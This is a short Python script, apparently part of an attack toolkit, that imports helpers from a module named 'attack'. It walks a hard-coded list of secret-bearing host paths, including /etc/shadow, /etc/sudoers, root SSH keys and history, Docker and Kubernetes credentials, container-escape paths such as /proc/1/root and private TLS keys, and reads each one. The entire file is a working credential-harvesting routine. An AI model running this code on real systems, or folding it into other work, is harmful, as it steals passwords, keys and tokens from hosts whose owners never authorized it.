# Files of the host, by the names that its secrets usually have (and those given as arguments).
import glob
import os
import sys

from attack import done, door, read

for path in (*sys.argv[1:], "/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.ssh", "/root/.bash_history", "/root/.docker/config.json",
             "/home/*", "/root/*", "/root/.*", "/var/lib/docker", "/var/run/secrets", "/run/secrets", "/var/lib/kubelet", "/etc/kubernetes", "/host",
             "/mnt/*", "/media/*", "/srv/*", "/work", "/var/log/*", "/var/spool/*", "/var/mail/*", "/etc/ssh", "/etc/ssl/private", "/boot",
             "/lost+found", "/swapfile", "/etc/machine-id", "/var/lib/dbus/machine-id", "/proc/1/root/etc/shadow", "/etc/hostname.host"):
    for found in glob.glob(path) or [path]:
        if os.path.basename(found) not in (".", ".."):
            door(found, read, found)
done()
